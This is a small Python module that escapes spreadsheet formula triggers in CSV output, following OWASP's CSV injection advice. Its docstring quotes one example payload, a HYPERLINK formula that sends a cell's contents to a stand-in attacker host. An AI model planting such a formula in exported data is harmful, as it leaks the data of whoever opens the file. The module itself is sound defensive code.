"""Cells a spreadsheet would run as a formula, made inert (OWASP, "CSV Injection").

A CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is taken by Excel,
LibreOffice and Google Sheets as the start of a formula: `=HYPERLINK("http://evil.example/?"
&B2,"x")` in a name column would run when HR opens the results. OWASP's advice is to write
such a cell with a leading single quote, which makes the spreadsheet show it as text.
https://owasp.org/www-community/attacks/CSV_Injection

Every CSV the checker writes passes every cell, input columns included, through
`formula_safe`. The dates it writes (`2026-11-26`) start with a digit and are never changed;
JSON output is not a spreadsheet and is left as it is.
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["FORMULA_TRIGGERS", "formula_safe", "formula_safe_row"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGERS = frozenset(FORMULA_TRIGGERS)


def formula_safe(cell: str) -> str:
    """`cell`, with a leading `'` if a spreadsheet would read it as a formula."""
    return "'" + cell if cell[:1] in _TRIGGERS else cell


def formula_safe_row(cells: Iterable[str]) -> list[str]:
    """Every cell of a row through `formula_safe`."""
    return ["'" + cell if cell[:1] in _TRIGGERS else cell for cell in cells]
